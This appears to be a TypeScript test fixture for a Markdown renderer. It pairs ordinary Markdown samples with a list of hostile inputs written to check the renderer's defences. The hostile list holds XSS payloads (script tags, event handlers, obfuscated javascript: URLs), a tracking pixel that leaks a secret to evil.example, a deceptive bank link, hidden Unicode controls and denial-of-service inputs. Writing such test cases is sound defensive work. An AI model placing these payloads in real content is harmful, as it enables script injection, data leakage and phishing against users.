/** What models write, and what they should not. */
export const DOCUMENTS: Readonly<Record<string, string>> = {
  prose:
    '# A heading\n\nText with **strong**, *emphasis*, `code`, ~~gone~~ and [a link](https://example.com/a_b "t").\nA second line.\n\nSecond paragraph with __bold *and em* inside__ and a * star, 5*3, snake_case_name.\n',
  lists:
    'Before:\n- one\n- **two**\n  - deeper\n\n  a paragraph\n- [ ] to do\n- [x] done\n\n1. first\n2. second\n\n3. third after a gap\n\n* other\n\n**not a list**\n',
  table:
    'See:\n\n| Name | **Count** | `x` |\n|:--|--:|:-:|\n| a | 1 | y |\n| b \\| c | 2 | |\n\nAfter.\n',
  code: 'Run:\n\n```python\ndef f(x):\n    return "```"\n```\n\nand\n\n~~~\nplain\n~~~\n\n    indented\n\n    more\n\nEnd `with ``ticks` in it.\n',
  nested:
    '> quote\n> - list in it\n>\n>   ```js\n>   let a = 1;\n>   ```\n> > deeper\n\n- item\n\n  ```sh\n  ls\n  ```\n\n  after\n\n---\n\nTitle\n---\n\nText\n***\nmore\n',
  links:
    'A [named] link, [another][one] and ![an image](https://example.com/a.png), <https://a.example> www.b.example.\n\n[named]: https://n.example\n[one]: https://o.example "one"\n\nAnd [named] again.\n',
  html: '<div>\nfoo\n\nbar</div>\n\nText <b>bold</b> &amp; &#x41; <br> next\n\n<!-- a\n\ncomment -->\n\nEnd.\n',
  crlf: 'One\r\n\r\n- a\r\n- b\r\n\r\nTwo\r\n',
};

/** Each tries to run, to load, to hide or to choke. */
export const HOSTILE: readonly string[] = [
  '<script>window.harmed = 1</script>',
  '<img src=x onerror="window.harmed = 1">',
  '<svg onload=window.harmed=1><a xlink:href="javascript:window.harmed=1">x</a></svg>',
  '<iframe srcdoc="<script>window.harmed=1</script>"></iframe>\n\n<style>*{display:none}</style>',
  '[x](javascript:window.harmed=1) [x](JaVaScRiPt:alert(1)) [x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](blob:https://a/b) [x](file:///etc/passwd)',
  '[x]( javascript:alert(1) "t") [x](\tjava\nscript:alert(1)) <javascript:alert(1)>',
  '[x](//evil.example) [x](/relative) [x](?q) [x](#frag)',
  '![pixel](https://evil.example/pixel.png?secret) ![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[![img](https://evil.example/a.png)](https://evil.example)',
  '[ref][a]\n\n[a]: javascript:alert(1)\n[constructor] [__proto__] [toString]\n\n[__proto__]: https://x.example',
  '[https://bank.example](https://evil.example) [a\u202Eb](https://user:pass@evil.example)',
  '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> | [x](javascript:1) |\n|-|-|\n| `<b>` | ![x](http://e.example/i) |',
  '\u202Eabc\u2066def\u200B\uFEFF\u0000\u0007 \u{E0041}\u{E0042}',
  `${'>'.repeat(5000)}a`,
  `${'> - '.repeat(500)}a`,
  Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  `${'*a _b '.repeat(4000)}${'_ *'.repeat(4000)}`,
  `${'['.repeat(3000)}x${']('.repeat(3000)}`,
  `${'![a'.repeat(500)}${'](x)'.repeat(500)}`,
  `${'`'.repeat(999)}a${'``b'.repeat(999)}`,
  `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n|${'b|'.repeat(500)}`,
  'a'.repeat(50_000),
  '\\'.repeat(5000),
  '&'.repeat(5000) + '&lt;script&gt;'.repeat(10),
  `# ${'#'.repeat(1000)}\n===\n---\n- \n-\n1.\n>\n>>`,
];
